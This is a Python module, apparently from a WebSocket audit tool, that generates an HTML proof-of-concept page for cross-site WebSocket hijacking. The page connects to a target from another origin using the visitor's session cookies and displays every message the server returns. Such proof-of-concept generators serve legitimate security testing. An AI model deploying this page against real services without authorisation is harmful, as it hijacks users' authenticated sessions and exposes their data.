"""Static cross-site WebSocket hijacking proof-of-concept page."""

from __future__ import annotations

import html
import json

from .handshake import parse_ws_url

_TEMPLATE = """<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>CSWH proof of concept</title>
<style>
body {{ font-family: monospace; margin: 2em; }}
#log {{ white-space: pre-wrap; border: 1px solid #888; padding: 1em; }}
</style>
</head>
<body>
<h1>Cross-site WebSocket hijacking</h1>
<p>Target: <code>{target_html}</code></p>
<p>{note_html}</p>
<div id="log"></div>
<script>
(function () {{
  var target = {target_js};
  var log = document.getElementById("log");
  function show(line) {{
    log.appendChild(document.createTextNode(line + "\\n"));
  }}
  // The browser attaches the victim's cookies and this page's Origin.
  var ws = new WebSocket(target);
  ws.onopen = function () {{
    show("[open] connected to " + target);
    ws.send({marker_js});
  }};
  ws.onmessage = function (event) {{
    show("[recv] " + event.data);
  }};
  ws.onerror = function () {{
    show("[error] connection failed or was refused");
  }};
  ws.onclose = function (event) {{
    show("[close] code " + event.code);
  }};
}})();
</script>
</body>
</html>
"""

POC_MARKER = "wsaudit-cswh-poc"


def _js_string(value: str) -> str:
    # json.dumps gives a valid JS literal; escaping "<" keeps "</script>" inert.
    return json.dumps(value).replace("<", "\\u003c").replace(">", "\\u003e")


def generate_cswh_poc(target_url: str, victim_note: str = "") -> str:
    """Return a self-contained HTML page that opens a socket to ``target_url``
    from whatever origin serves it and logs every message it receives."""
    parse_ws_url(target_url)
    note = victim_note or "Open this page in a browser that holds a session for the target."
    return _TEMPLATE.format(
        target_html=html.escape(target_url),
        note_html=html.escape(note),
        target_js=_js_string(target_url),
        marker_js=_js_string(POC_MARKER),
    )
